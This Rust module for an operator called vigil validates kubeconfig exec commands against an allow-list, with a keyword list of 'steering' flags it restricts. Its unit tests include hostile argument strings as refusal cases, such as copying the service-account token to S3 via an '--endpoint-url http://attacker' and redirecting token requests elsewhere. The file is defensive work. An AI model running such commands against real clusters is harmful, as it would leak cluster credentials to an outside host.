//! The operator's exec allow-list: which programs vigil may run for a kubeconfig, and with
//! which arguments.
//!
//! A kubeconfig names its command *and* the command's arguments, so allowing a program
//! alone would let whoever writes a kubeconfig run any subcommand of it as vigil (`aws s3
//! cp … --endpoint-url http://elsewhere`). An entry therefore names the program, the words
//! that must follow it, and each flag that may follow with what its value may be; anything
//! else refuses the run.
//!
//! The file (`VIGIL_EXEC_ALLOW_FILE`) holds one entry a line; blank lines and lines whose
//! first non-blank character is `#` are skipped. An entry is words separated by blanks
//! (there is no quoting: a word never holds a blank):
//!
//! ```text
//! # PROGRAM         WORDS…           FLAGS, each with its value if it takes one
//! /usr/local/aws-cli/v2/2.22.0/dist/aws eks get-token --cluster-name <name> --region <name> --output json
//! ```
//!
//! - **PROGRAM**: the program's real path, absolute, every link resolved (`readlink -f`). A
//!   kubeconfig's command runs only if the file it really is has exactly this path.
//! - **WORDS**: until the first word starting with `-`, the words the arguments must
//!   contain, in this order (`eks get-token`). Each is a literal or a pattern.
//! - **FLAGS**: from the first word starting with `-` on (`-` alone is a word), each flag the
//!   arguments may contain (`--region`, or a one-letter `-o`). A flag followed by a word that
//!   does not start with `-` takes a value, and that word says which: a literal (`json`) or
//!   a pattern; `--flag=value` is the same as `--flag value`. A flag followed by another
//!   flag, or ending the line, takes no value. Each flag is listed once.
//!
//! Patterns: `<name>` is one argument of letters, digits, `.`, `_` and `-` that starts with a
//! letter, a digit or `_` (a cluster, a region, a project, an id; never a path with a
//! directory nor a URL); `<any>` is any one argument that does not start with `-`. Every
//! other word is a literal, matched exactly; `<…>` words other than these two are refused.
//!
//! The arguments of a kubeconfig fit an entry when, read from the left, each is either a flag
//! of the entry (`--flag value`, `--flag=value`, or the flag alone when it takes no value),
//! with a value that matches, or the next of the entry's words; and every word was found.
//! Flags may come before, between or after the words, in any order, each any number of
//! times; a flag the entry does not list (`--`, too) refuses the run, and so does a value
//! starting with `-`. Several entries may name one program: fitting one is enough.
//!
//! **Steering flags** never take a pattern, only a literal: flags that change where a tool
//! talks, what it reads or runs, or who it is (an endpoint, a profile, a configuration file,
//! a debug switch that prints requests). A flag steers when it is a one-letter flag (`-o`:
//! its meaning is the tool's), when its name contains one of [`STEERING_WORDS`], or when one
//! of the parts of its name (between `-`, `_` and `.`) is one of [`STEERING_PARTS`]. The
//! lists err on the safe side: writing the value out is always possible.

use std::fmt;
use std::path::{Component, Path, PathBuf};

/// The setting that names the allow-list file, for messages.
pub const SETTING: &str = "VIGIL_EXEC_ALLOW_FILE";

/// Parts of a flag's name (lower-cased) that make it a steering flag: it then takes only a
/// literal value in an entry. Matched anywhere in the name, so `--configfile`,
/// `--aws-config-path` and `--oidc-issuer-url` all steer.
pub const STEERING_WORDS: &[&str] = &[
    // What the tool reads: configuration, files, caches, homes, profiles and contexts (which
    // select a section of a configuration file, with its endpoints and its commands).
    "config",
    "file",
    "path",
    "dir",
    "home",
    "cache",
    "profile",
    "context",
    "env",
    "source",
    "include",
    "import",
    "load",
    "cert",
    "key",
    // Where it talks.
    "url",
    "uri",
    "endpoint",
    "server",
    "host",
    "address",
    "port",
    "listen",
    "bind",
    "proxy",
    "issuer",
    "authority",
    "insecure",
    "verify",
    "tls",
    "ssl",
    "socket",
    // What it runs or prints (a debug log prints requests, signed headers included).
    "exec",
    "command",
    "cmd",
    "script",
    "plugin",
    "module",
    "hook",
    "debug",
    "log",
    "trace",
    "verbose",
    "output",
];

/// Parts of a flag's name (lower-cased, between `-`, `_` and `.`) that make it a steering
/// flag when they are a whole part: words too short to look for anywhere in a name.
pub const STEERING_PARTS: &[&str] = &["ca", "bundle", "trust"];

/// The longest argument `<name>` matches, in bytes (a DNS name's length).
const MAX_NAME_BYTES: usize = 253;

/// What a word of an entry accepts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Pattern {
    /// Exactly this argument.
    Literal(String),
    /// `<name>`: one argument of letters, digits, `.`, `_` and `-`, starting with a letter,
    /// a digit or `_`, at most 253 bytes.
    Name,
    /// `<any>`: any one argument not starting with `-`.
    Any,
}

impl Pattern {
    /// Reads a word of an entry: `<name>`, `<any>`, or a literal.
    fn read(word: &str) -> Result<Self, String> {
        match word {
            "<name>" => Ok(Self::Name),
            "<any>" => Ok(Self::Any),
            _ if word.starts_with('<') && word.ends_with('>') => Err(format!(
                "{word} is not a pattern vigil knows: a value is a literal word, <name> or <any>"
            )),
            _ => Ok(Self::Literal(word.to_owned())),
        }
    }

    /// Whether `argument` fits.
    pub fn matches(&self, argument: &str) -> bool {
        match self {
            Self::Literal(literal) => argument == literal,
            Self::Name => is_name(argument),
            Self::Any => !argument.is_empty() && !argument.starts_with('-'),
        }
    }

    fn is_wildcard(&self) -> bool {
        !matches!(self, Self::Literal(_))
    }
}

impl fmt::Display for Pattern {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Literal(literal) => write!(f, "`{literal}`"),
            Self::Name => f.write_str(
                "<name> (letters, digits, '.', '_' and '-', not starting with '-' or '.')",
            ),
            Self::Any => f.write_str("<any> (one argument, not starting with '-')"),
        }
    }
}

fn is_name(argument: &str) -> bool {
    argument.len() <= MAX_NAME_BYTES
        && argument
            .chars()
            .next()
            .is_some_and(|first| first.is_ascii_alphanumeric() || first == '_')
        && argument
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

/// A flag an entry allows, and the value it takes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FlagRule {
    /// The flag as written, dashes included (`--region`, `-o`).
    pub name: String,
    /// Its value; `None` for a flag that takes none.
    pub value: Option<Pattern>,
}

/// One line of the allow-list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AllowEntry {
    /// Its line in the file (from 1), for messages.
    pub line: usize,
    /// The program's real path, as written.
    pub program: PathBuf,
    /// The words the arguments must contain, in order.
    pub words: Vec<Pattern>,
    /// The flags the arguments may contain.
    pub flags: Vec<FlagRule>,
}

/// Why the arguments of a kubeconfig do not fit an entry. Never quotes an argument's
/// value (a kubeconfig's arguments may carry a secret); names a flag only when it looks
/// like one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ArgsRefused {
    /// How many arguments fitted before the one refused (to pick, among several entries,
    /// the refusal that says the most).
    pub fitted: usize,
    /// What is wrong, e.g. `its exec argument 5 (--endpoint-url) is not a flag line 3 of
    /// VIGIL_EXEC_ALLOW_FILE allows`.
    pub reason: String,
}

impl AllowEntry {
    /// Whether `args` (a kubeconfig's `args`, in order) fit this entry.
    pub fn check(&self, args: &[String]) -> Result<(), ArgsRefused> {
        let line = self.line;
        let refuse = |fitted: usize, reason: String| ArgsRefused { fitted, reason };
        let mut next_word = 0;
        let mut at = 0;
        while let Some(argument) = args.get(at) {
            let number = at + 1;
            if is_flag(argument) {
                let (name, inline) = match argument.split_once('=') {
                    Some((name, value)) => (name, Some(value)),
                    None => (argument.as_str(), None),
                };
                let Some(rule) = self.flags.iter().find(|rule| rule.name == name) else {
                    return Err(refuse(
                        at,
                        format!(
                            "its exec argument {number} {} is not a flag that line {line} of {SETTING} allows",
                            shown_flag(name)
                        ),
                    ));
                };
                match (&rule.value, inline) {
                    (None, None) => at += 1,
                    (None, Some(_)) => {
                        return Err(refuse(
                            at,
                            format!(
                                "its exec argument {number} gives {name} a value, and line {line} of {SETTING} lists {name} without one"
                            ),
                        ));
                    }
                    (Some(pattern), inline) => {
                        let (value, used) = match inline {
                            Some(value) => (Some(value), 1),
                            None => (args.get(at + 1).map(String::as_str), 2),
                        };
                        let Some(value) = value else {
                            return Err(refuse(
                                at,
                                format!("its exec argument {number} ({name}) has no value"),
                            ));
                        };
                        if !pattern.matches(value) {
                            // The flag itself fitted: this entry got further than one
                            // that does not list it.
                            return Err(refuse(
                                at + 1,
                                format!(
                                    "the value of its exec argument {number} ({name}) does not fit {pattern}, as line {line} of {SETTING} requires"
                                ),
                            ));
                        }
                        at += used;
                    }
                }
            } else {
                let Some(pattern) = self.words.get(next_word) else {
                    return Err(refuse(
                        at,
                        format!(
                            "its exec argument {number} is a word that line {line} of {SETTING} does not list (after {} word{})",
                            self.words.len(),
                            if self.words.len() == 1 { "" } else { "s" }
                        ),
                    ));
                };
                if !pattern.matches(argument) {
                    return Err(refuse(
                        at,
                        format!(
                            "its exec argument {number} is not {pattern}, which line {line} of {SETTING} expects as word {}",
                            next_word + 1
                        ),
                    ));
                }
                next_word += 1;
                at += 1;
            }
        }
        if let Some(missing) = self.words.get(next_word) {
            return Err(refuse(
                at,
                format!(
                    "its exec arguments lack word {} ({missing}) of line {line} of {SETTING}",
                    next_word + 1
                ),
            ));
        }
        Ok(())
    }
}

/// Whether an argument is a flag: it starts with `-` and is more than `-` alone (which
/// tools read as standard input, a word).
fn is_flag(argument: &str) -> bool {
    argument.starts_with('-') && argument != "-"
}

/// A flag's name as a message shows it: in parentheses when it looks like a flag name (at
/// most 64 letters, digits, `.`, `_` and `-`), else not at all (it may be a value that lost
/// its flag).
fn shown_flag(name: &str) -> String {
    let plain = name.len() <= 64
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'));
    if plain {
        format!("({name})")
    } else {
        "(not shown: it does not look like a flag name)".to_owned()
    }
}

/// Whether a flag steers (see the module's documentation): a one-letter flag, one whose
/// name contains a word of [`STEERING_WORDS`], or one with a part of [`STEERING_PARTS`].
pub fn steers(flag: &str) -> bool {
    let name = flag.trim_start_matches('-').to_ascii_lowercase();
    let short = !flag.starts_with("--");
    short
        || STEERING_WORDS.iter().any(|word| name.contains(word))
        || name
            .split(['-', '_', '.'])
            .any(|part| STEERING_PARTS.contains(&part))
}

/// Why the allow-list file cannot be used.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("line {line}: {reason}")]
pub struct AllowListError {
    /// The line (from 1).
    pub line: usize,
    /// What is wrong with it.
    pub reason: String,
}

/// The entries of the allow-list file, checked.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct AllowList {
    entries: Vec<AllowEntry>,
}

impl AllowList {
    /// Reads the file's text (see the module's documentation for its syntax).
    pub fn parse(text: &str) -> Result<Self, AllowListError> {
        let mut entries = Vec::new();
        for (index, raw) in text.lines().enumerate() {
            let line = index + 1;
            let trimmed = raw.trim();
            if trimmed.is_empty() || trimmed.starts_with('#') {
                continue;
            }
            let entry =
                parse_entry(line, trimmed).map_err(|reason| AllowListError { line, reason })?;
            entries.push(entry);
        }
        Ok(Self { entries })
    }

    /// Every entry, in the file's order.
    pub fn entries(&self) -> &[AllowEntry] {
        &self.entries
    }

    /// Whether no entry allows anything.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// The entries for the program whose real path is `program`.
    pub fn for_program<'a>(&'a self, program: &'a Path) -> impl Iterator<Item = &'a AllowEntry> {
        self.entries
            .iter()
            .filter(move |entry| entry.program == program)
    }
}

fn parse_entry(line: usize, text: &str) -> Result<AllowEntry, String> {
    let mut words = text.split_whitespace();
    let program = words.next().unwrap_or_default();
    check_program(program)?;
    let mut entry = AllowEntry {
        line,
        program: PathBuf::from(program),
        words: Vec::new(),
        flags: Vec::new(),
    };
    let mut words = words.peekable();
    while let Some(word) = words.next_if(|word| !is_flag(word)) {
        entry.words.push(Pattern::read(word)?);
    }
    while let Some(word) = words.next() {
        if !is_flag(word) {
            return Err(format!(
                "the word {word:?} follows the value of a flag; the words an entry requires come right after the program, before any flag"
            ));
        }
        let (name, inline) = match word.split_once('=') {
            Some((name, value)) => (name, Some(value)),
            None => (word, None),
        };
        check_flag_name(name)?;
        if entry.flags.iter().any(|rule| rule.name == name) {
            return Err(format!("{name} is listed twice; list each flag once"));
        }
        let value = match inline {
            Some(value) => Some(value),
            None => words.next_if(|next| !is_flag(next)),
        };
        let value = value.map(Pattern::read).transpose()?;
        if let Some(pattern) = &value
            && pattern.is_wildcard()
            && steers(name)
        {
            return Err(format!(
                "{name} may steer where the program talks, what it reads or runs, or who it is, so only an exact value may follow it, never {}; write the value out (e.g. `{name} VALUE`), one entry per value",
                match pattern {
                    Pattern::Name => "<name>",
                    _ => "<any>",
                }
            ));
        }
        if let Some(Pattern::Literal(literal)) = &value
            && literal.is_empty()
        {
            return Err(format!("{name}= has an empty value"));
        }
        entry.flags.push(FlagRule {
            name: name.to_owned(),
            value,
        });
    }
    Ok(entry)
}

/// The program must be written as its real path is: absolute, with no `.` or `..` part, no
/// repeated or trailing `/` (a real path never has them, so such an entry would allow
/// nothing), and not a pattern.
fn check_program(program: &str) -> Result<(), String> {
    let path = Path::new(program);
    if !path.is_absolute() {
        return Err(format!(
            "{program:?} is not an absolute path; an entry starts with the program's real path (`readlink -f` of it)"
        ));
    }
    let normal = path
        .components()
        .all(|component| matches!(component, Component::RootDir | Component::Normal(_)));
    let rebuilt: PathBuf = path.components().collect();
    if !normal || rebuilt.as_os_str() != path.as_os_str() {
        return Err(format!(
            "{program:?} is not written as a real path is (no `.` or `..` parts, no repeated or trailing `/`); write the program's real path (`readlink -f` of it)"
        ));
    }
    if program.contains('<') {
        return Err(format!(
            "{program:?}: the program is a path, never a pattern"
        ));
    }
    Ok(())
}

fn check_flag_name(name: &str) -> Result<(), String> {
    let bare = name.strip_prefix("--").or_else(|| name.strip_prefix('-'));
    let valid = bare.is_some_and(|bare| {
        bare.chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric())
            && bare
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
    });
    if valid {
        Ok(())
    } else {
        Err(format!(
            "{name:?} is not a flag: a flag is `-` and one letter or digit, or `--` and a name of letters, digits, '.', '_' and '-'"
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const AWS: &str = "/opt/aws-cli/v2/2.22.0/dist/aws";

    fn entry(text: &str) -> AllowEntry {
        let list = AllowList::parse(text).unwrap_or_else(|error| panic!("{text}: {error}"));
        list.entries()[0].clone()
    }

    fn args(text: &str) -> Vec<String> {
        text.split_whitespace().map(str::to_owned).collect()
    }

    #[test]
    fn entries_are_read_line_by_line() {
        let list = AllowList::parse(&format!(
            "# EKS\n\n  {AWS} eks get-token --cluster-name <name> --region <name> --output json  \n\
             /usr/bin/kubelogin get-token --login azurecli --server-id 6dae42f8-4368-4678-94ff-3960e28e3630\n\
             /usr/bin/tool --flag=<any> --switch -o=json\n"
        ))
        .unwrap();
        let [aws, kubelogin, tool] = list.entries() else {
            panic!("three entries: {list:?}");
        };
        assert_eq!(aws.line, 3);
        assert_eq!(aws.program, Path::new(AWS));
        assert_eq!(
            aws.words,
            [
                Pattern::Literal("eks".to_owned()),
                Pattern::Literal("get-token".to_owned())
            ]
        );
        assert_eq!(
            aws.flags,
            [
                FlagRule {
                    name: "--cluster-name".to_owned(),
                    value: Some(Pattern::Name)
                },
                FlagRule {
                    name: "--region".to_owned(),
                    value: Some(Pattern::Name)
                },
                FlagRule {
                    name: "--output".to_owned(),
                    value: Some(Pattern::Literal("json".to_owned()))
                },
            ]
        );
        assert_eq!(kubelogin.line, 4);
        assert_eq!(kubelogin.flags.len(), 2);
        assert_eq!(
            tool.flags,
            [
                FlagRule {
                    name: "--flag".to_owned(),
                    value: Some(Pattern::Any)
                },
                FlagRule {
                    name: "--switch".to_owned(),
                    value: None
                },
                FlagRule {
                    name: "-o".to_owned(),
                    value: Some(Pattern::Literal("json".to_owned()))
                },
            ]
        );
        assert!(tool.words.is_empty());
        assert_eq!(list.for_program(Path::new(AWS)).count(), 1);
        assert!(AllowList::parse("# nothing\n\n").unwrap().is_empty());
    }

    #[test]
    fn entries_that_would_allow_too_much_or_nothing_are_refused() {
        for (text, expected) in [
            ("aws eks get-token", "not an absolute path"),
            ("./aws eks", "not an absolute path"),
            ("/usr/bin/../bin/aws", "not written as a real path is"),
            ("/usr/bin//aws", "not written as a real path is"),
            ("/usr/bin/aws/", "not written as a real path is"),
            ("/usr/bin/<name>", "never a pattern"),
            ("/usr/bin/aws eks <region>", "<region> is not a pattern"),
            (
                "/usr/bin/aws --cluster-name <cluster>",
                "<cluster> is not a pattern",
            ),
            (
                "/usr/bin/aws --region <name> get-token",
                "follows the value of a flag",
            ),
            ("/usr/bin/aws --region a --region b", "listed twice"),
            ("/usr/bin/aws --", "is not a flag"),
            ("/usr/bin/aws ---x", "is not a flag"),
            ("/usr/bin/aws --a=", "empty value"),
            // Steering flags take a literal only.
            (
                "/usr/bin/aws eks get-token --endpoint-url <any>",
                "--endpoint-url may steer",
            ),
            ("/usr/bin/aws --profile <name>", "--profile may steer"),
            ("/usr/bin/aws --debug=<name>", "--debug may steer"),
            (
                "/usr/bin/kubectl --kubeconfig <any>",
                "--kubeconfig may steer",
            ),
            ("/usr/bin/tool --config <name>", "--config may steer"),
            ("/usr/bin/tool --token-file <any>", "--token-file may steer"),
            (
                "/usr/bin/tool --oidc-issuer-url <any>",
                "--oidc-issuer-url may steer",
            ),
            ("/usr/bin/tool -o <name>", "-o may steer"),
            ("/usr/bin/tool --login <name>", "--login may steer"),
        ] {
            let error = AllowList::parse(&format!("# first\n{text}\n")).unwrap_err();
            assert_eq!(error.line, 2, "{text}");
            assert!(error.reason.contains(expected), "{text}: {error}");
        }
        // With their value written out they are fine.
        AllowList::parse(
            "/usr/bin/aws --endpoint-url https://sts.example.com --profile prod --debug -o json",
        )
        .unwrap();
    }

    #[test]
    fn steering_flags_are_recognised_by_their_words() {
        for flag in [
            "--endpoint-url",
            "--profile",
            "--debug",
            "--kubeconfig",
            "--config",
            "--configfile",
            "--aws-config-path",
            "--token-cache-dir",
            "--ca-bundle",
            "--client-certificate",
            "--oidc-issuer-url",
            "--server-id",
            "--environment",
            "--context",
            "--output",
            "--browser-command",
            "--listen-address",
            "--no-verify-ssl",
            "-o",
            "-v",
            "--Profile",
        ] {
            assert!(steers(flag), "{flag} steers");
        }
        for flag in [
            "--cluster-name",
            "--region",
            "--role-arn",
            "--client-id",
            "--tenant-id",
            "--project",
            "--zone",
        ] {
            assert!(!steers(flag), "{flag} does not steer");
        }
    }

    fn check(entry_text: &str, args_text: &str) -> Result<(), String> {
        entry(entry_text)
            .check(&args(args_text))
            .map_err(|refused| refused.reason)
    }

    #[test]
    fn arguments_fit_an_entry_or_are_refused() {
        let eks =
            format!("{AWS} eks get-token --cluster-name <name> --region <name> --output json");
        let ok = |args_text: &str| {
            check(&eks, args_text).unwrap_or_else(|why| panic!("{args_text}: {why}"));
        };
        // What `aws eks update-kubeconfig` writes, flags first.
        ok("--region eu-west-1 eks get-token --cluster-name prod --output json");
        ok("eks get-token --cluster-name prod");
        ok("eks get-token --cluster-name=prod --region=us-east-1");
        ok("eks --region us-east-1 get-token");
        ok("eks get-token --region a --region b");
        for (args_text, expected) in [
            // Another subcommand, another endpoint: a token copied elsewhere.
            (
                "s3 cp /var/run/secrets/kubernetes.io/serviceaccount/token s3://b/k --endpoint-url http://attacker --no-sign-request",
                "argument 1 is not `eks`",
            ),
            (
                "eks get-token --cluster-name prod --endpoint-url http://attacker",
                "argument 5 (--endpoint-url) is not a flag that line 1",
            ),
            ("eks get-token --profile other", "(--profile) is not a flag"),
            ("eks get-token --debug", "(--debug) is not a flag"),
            (
                "eks get-token --output text",
                "(--output) does not fit `json`",
            ),
            ("eks get-token --cluster-name ../x", "does not fit <name>"),
            (
                "eks get-token --cluster-name http://x",
                "does not fit <name>",
            ),
            (
                "eks get-token --cluster-name /etc/passwd",
                "does not fit <name>",
            ),
            (
                "eks get-token --cluster-name",
                "(--cluster-name) has no value",
            ),
            // A value that is a flag to the tool is no value.
            (
                "eks get-token --cluster-name --endpoint-url=http://x",
                "does not fit <name>",
            ),
            ("eks get-token extra", "argument 3 is a word that line 1"),
            ("eks", "lack word 2 (`get-token`)"),
            ("", "lack word 1 (`eks`)"),
            ("get-token eks", "argument 1 is not `eks`"),
            (
                "eks get-token -- --endpoint-url x",
                "argument 3 (--) is not a flag",
            ),
            ("eks get-token --output=json=x", "does not fit `json`"),
        ] {
            let why = check(&eks, args_text).expect_err(args_text);
            assert!(why.contains(expected), "{args_text}: {why}");
            assert!(!why.contains("attacker"), "values are never quoted: {why}");
        }
        // Flags that take no value, and values that are any one argument.
        let tool = "/usr/bin/tool get-token <name> --switch --secret <any>";
        check(tool, "get-token c1 --switch --secret s3cr3t:/x").unwrap();
        assert!(
            check(tool, "get-token c1 --switch=1")
                .unwrap_err()
                .contains("without one")
        );
        assert!(
            check(tool, "get-token c1 --secret -x")
                .unwrap_err()
                .contains("does not fit <any>")
        );
        assert!(
            check(tool, "get-token c1 --secret=")
                .unwrap_err()
                .contains("does not fit <any>")
        );
        // `-` alone is a word (standard input).
        assert!(check("/usr/bin/tool -", "-").is_ok());
        // An argument that does not look like a flag name is not quoted.
        let why = check(tool, "get-token c1 --tok3n=abc/def").unwrap_err();
        assert!(why.contains("(--tok3n)"), "{why}");
        let why = check(tool, "get-token c1 --t:secret").unwrap_err();
        assert!(
            !why.contains("secret") && why.contains("not shown"),
            "{why}"
        );
    }

    /// The entries the README shows for the common shapes parse, and the arguments those
    /// tools' kubeconfigs carry fit them.
    #[test]
    fn the_readmes_entries_parse_and_fit_what_the_tools_write() {
        let readme = include_str!("../../../../README.md");
        let shapes = readme
            .split_once("Entries for the common shapes")
            .and_then(|(_, rest)| rest.split_once("```text\n"))
            .and_then(|(_, rest)| rest.split_once("```"))
            .map(|(block, _)| block)
            .expect("the README shows entries for the common shapes");
        let list = AllowList::parse(shapes).unwrap_or_else(|error| panic!("{error}"));
        assert_eq!(list.entries().len(), 5, "{shapes}");
        let fits = |program: &str, argv: &str| {
            list.for_program(Path::new(program))
                .any(|entry| entry.check(&args(argv)).is_ok())
        };
        let aws = "/usr/local/aws-cli/v2/2.22.0/dist/aws";
        assert!(fits(
            aws,
            "--region eu-west-1 eks get-token --cluster-name prod --output json"
        ));
        assert!(fits(
            aws,
            "--region eu-west-1 eks get-token --cluster-name prod --output json --role-arn arn:aws:iam::111122223333:role/vigil-reader"
        ));
        assert!(!fits(
            aws,
            "--region eu-west-1 eks get-token --cluster-name prod --output json --role-arn arn:aws:iam::111122223333:role/admin"
        ));
        assert!(fits(
            "/usr/lib/google-cloud-sdk/bin/gke-gcloud-auth-plugin",
            ""
        ));
        assert!(fits(
            "/usr/local/bin/kubelogin",
            "get-token --environment AzurePublicCloud --server-id 6dae42f8-4368-4678-94ff-3960e28e3630 --client-id 0f7a6d2e-1c1b-4a43-9c0a-5d6e7f809a1b --tenant-id 72f988bf-86f1-41af-91ab-2d7cd011db47 --login workloadidentity"
        ));
        assert!(fits(
            "/usr/local/bin/kubectl",
            "oidc-login get-token --oidc-issuer-url=https://login.example.com/realms/ops --oidc-client-id=vigil --oidc-client-secret=s3cr3t --grant-type=password --username=vigil --password=pw"
        ));
        assert!(!fits(
            "/usr/local/bin/kubectl",
            "oidc-login get-token --oidc-issuer-url=https://elsewhere.example.com --oidc-client-id=vigil"
        ));
    }

    #[test]
    fn names_are_plain_words() {
        for name in [
            "prod",
            "eu-west-1",
            "my_cluster.v2",
            "_x",
            "6dae42f8-4368-4678-94ff-3960e28e3630",
        ] {
            assert!(Pattern::Name.matches(name), "{name}");
        }
        for name in [
            "",
            "-x",
            ".hidden",
            "..",
            "a/b",
            "a:b",
            "a b",
            "https://x",
            "a@b",
            &"x".repeat(254),
        ] {
            assert!(!Pattern::Name.matches(name), "{name}");
        }
    }
}
